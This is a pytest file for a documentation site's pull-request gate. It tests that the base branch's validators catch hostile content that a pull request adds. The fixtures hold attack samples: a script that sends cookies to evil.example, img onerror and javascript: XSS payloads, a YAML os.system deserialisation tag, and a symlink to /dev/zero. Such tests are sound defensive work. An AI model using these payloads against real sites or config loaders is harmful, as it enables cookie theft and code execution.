"""The pull-request gate: the base branch's rules judge the pull request's content, and the job
summary explains the result in Chinese (see .github/workflows/checks.yml)."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from opskb.gate import Changed, GateReport, merged_config, overlay, render_summary
from test_contributing import NEW_PAGE, USER_OPS, edit, opskb, site_copy

BASE_NAV_LINE = "          - 金字塔分层: modules/user-operations/pyramid.md\n"


def add_page(copy: Path, page: str = NEW_PAGE) -> None:
    """A new page as a contributor adds it: the file, a nav line and a link from its chapter index."""
    (copy / USER_OPS / "north-star.md").write_text(page, encoding="utf-8")
    edit(copy / "mkdocs.yml", BASE_NAV_LINE, BASE_NAV_LINE + "          - 北极星指标: modules/user-operations/north-star.md\n")
    edit(copy / USER_OPS / "index.md", "\n## ", "\n- [北极星指标](north-star.md)：团队共同追踪的一个指标。\n\n## ")


@pytest.fixture
def base_and_pr(root: Path, tmp_path: Path) -> tuple[Path, Path]:
    return site_copy(root, tmp_path / "base"), site_copy(root, tmp_path / "pr")


def test_a_pull_request_cannot_weaken_its_own_check(base_and_pr: tuple[Path, Path], tmp_path: Path) -> None:
    base, pr = base_and_pr
    # The pull request switches the rules off, in the rules and in the hook, and brings a payload.
    edit(pr / "opskb/rules.py", 'UNSAFE_TAGS = frozenset({"script",', 'UNSAFE_TAGS = frozenset({"none",')
    edit(pr / "hooks/validate.py", "    emit(findings)\n", "    return\n")
    add_page(pr, NEW_PAGE + "\n<script>fetch('https://evil.example/?' + document.cookie)</script>\n")
    own = opskb(pr, "check")
    assert own.returncode == 0, own.output  # its own check is weakened indeed …
    report = tmp_path / "gate.json"
    gate = opskb(base, "gate", str(pr), "--site", str(tmp_path / "preview"), "--report", str(report))
    assert gate.returncode == 1  # … the base branch's is not
    assert f"{USER_OPS}/north-star.md:9:1: 错误 S001" in gate.output
    assert not (tmp_path / "preview").exists()
    data = json.loads(report.read_text(encoding="utf-8"))
    assert [(f["path"], f["rule"]) for f in data["findings"]] == [(f"{USER_OPS}/north-star.md", "S001")]
    assert data["builds"] == {"mkdocs": "failed", "properdocs": "not-run"}
    assert {"path": f"{USER_OPS}/north-star.md", "status": "added", "title": "北极星指标"} in data["changed"]


def test_the_base_branch_sanitiser_judges_what_the_rules_cannot_see(base_and_pr: tuple[Path, Path], tmp_path: Path) -> None:
    """A payload written to slip past the CommonMark rules, with the pull request's own sanitiser removed:
    the base branch's sanitiser still stops the build and names the page."""
    base, pr = base_and_pr
    edit(pr / "mkdocs.yml", "  - hooks/sanitize.py", "  # sanitiser removed")
    add_page(pr, NEW_PAGE + "\n文字<img/src=x onerror=alert(1)>文字\n")
    assert opskb(pr, "build", "--site-dir", str(tmp_path / "own")).returncode == 0  # its own build lets it through …
    report = tmp_path / "gate.json"
    gate = opskb(base, "gate", str(pr), "--site", str(tmp_path / "preview"), "--report", str(report))
    assert gate.returncode == 1  # … the base branch's does not
    assert f"{USER_OPS}/north-star.md:9:14: 错误 S004" in gate.output, gate.output[-3000:]
    assert not (tmp_path / "preview").exists()
    data = json.loads(report.read_text(encoding="utf-8"))
    assert [(f["path"], f["rule"]) for f in data["findings"]] == [(f"{USER_OPS}/north-star.md", "S004")]


def test_a_good_pull_request_passes_both_engines_and_leaves_a_preview(base_and_pr: tuple[Path, Path], tmp_path: Path) -> None:
    """Also the suite's proof that ProperDocs, the fallback engine, builds the site unchanged."""
    base, pr = base_and_pr
    add_page(pr)
    report = tmp_path / "gate.json"
    gate = opskb(base, "gate", str(pr), "--site", str(tmp_path / "preview"), "--report", str(report))
    assert gate.returncode == 0, gate.output[-3000:]
    data = json.loads(report.read_text(encoding="utf-8"))
    assert data["builds"] == {"mkdocs": "passed", "properdocs": "passed"} and data["findings"] == []
    assert "北极星指标" in (tmp_path / "preview/modules/user-operations/north-star/index.html").read_text(encoding="utf-8")
    assert data["config_changed"] is False
    summary = opskb(base, "summary", str(report), "--preview-url", "https://github.com/o/r/actions/runs/1/artifacts/2")
    assert "## 拉取请求检查：通过" in summary.output
    assert "[下载预览网站](https://github.com/o/r/actions/runs/1/artifacts/2)" in summary.output
    assert "- ProperDocs 严格构建（备用引擎）：通过" in summary.output


def test_the_pull_requests_nav_keeps_its_line_numbers_and_nothing_else_of_its_config(root: Path) -> None:
    base = (root / "mkdocs.yml").read_text(encoding="utf-8")
    pr = base.replace("hooks:\n  - hooks/validate.py\n", "hooks:\n").replace(BASE_NAV_LINE, BASE_NAV_LINE + "          - 新页: modules/new.md\n")
    merged, findings, changed = merged_config(base, pr)
    assert merged is not None and findings == [] and changed
    assert "  - hooks/validate.py" in merged  # the base's hooks, whatever the pull request says
    new_line = pr.split("\n").index("          - 新页: modules/new.md")
    assert merged.split("\n")[new_line] == '          - "新页": "modules/new.md"'


@pytest.mark.parametrize(
    ("entry", "rule"),
    [
        ("          - 新页：modules/new.md", "N003"),
        ("          - 新页: !!python/object/apply:os.system [touch /tmp/pwned]", "N003"),
        ("         - 新页: modules/new.md", "Y001"),
    ],
    ids=["full-width-colon", "yaml-tag", "indent"],
)
def test_a_broken_or_hostile_nav_is_reported_on_the_pull_requests_line(root: Path, entry: str, rule: str) -> None:
    base = (root / "mkdocs.yml").read_text(encoding="utf-8")
    pr = base.replace(BASE_NAV_LINE, BASE_NAV_LINE + entry + "\n")
    merged, findings, _ = merged_config(base, pr)
    assert merged is None
    assert [(f.rule, f.line) for f in findings][:1] == [(rule, pr.split("\n").index(entry) + 1)]


def test_the_summary_lists_pages_findings_and_builds_and_escapes_pull_request_text() -> None:
    hostile = "标题 | <img src=x onerror=alert(1)> [点我](javascript:alert(1)) `代码`\n第二行"
    report = GateReport(
        changed=[Changed("docs/a|b.md", "added", hostile), Changed("docs/glossary.md", "modified", "术语表")],
        images_changed=1,
        findings=[{"path": "docs/a|b.md", "line": 3, "col": 1, "rule": "H004", "severity": "error", "message": "标题从 2 级跳到 4 级"}],
        builds={"mkdocs": "failed", "properdocs": "not-run"},
    )
    text = render_summary(report, "https://github.com/o/r/actions/runs/1/artifacts/2")
    assert "## 拉取请求检查：未通过" in text
    assert "| docs/glossary.md | 术语表 | 修改 |" in text
    assert "| docs/a&#124;b.md:3:1 | 错误 | H004 | 标题从 2 级跳到 4 级 |" in text
    assert "另有 1 个 img/ 中的文件有改动。" in text
    assert "- MkDocs 严格构建：失败" in text and "构建没有通过，所以没有预览网站。" in text
    row = next(line for line in text.splitlines() if line.startswith("| docs/a&#124;b.md | "))
    assert "<img" not in row and not re.search(r"(?<!\\)\]\(", row) and not re.search(r"(?<!\\)`", row)  # no tag, link or code
    assert row.count("|") == 4  # still one row of three cells


def test_the_summary_never_links_an_unexpected_preview_address() -> None:
    report = GateReport(builds={"mkdocs": "passed", "properdocs": "passed"})
    assert "[下载预览网站]" not in render_summary(report, "javascript:alert(1)")
    assert "preview-site" in render_summary(report, "")


def test_a_symlinked_config_in_the_pull_request_is_refused_unread(base_and_pr: tuple[Path, Path], tmp_path: Path) -> None:
    base, pr = base_and_pr
    (pr / "mkdocs.yml").unlink()
    (pr / "mkdocs.yml").symlink_to("/dev/zero")  # reading it would never end
    findings, _ = overlay(base, pr, tmp_path / "work")
    assert [(f.path, f.rule) for f in findings] == [("mkdocs.yml", "Y001")]
    assert "不是符号链接" in findings[0].message
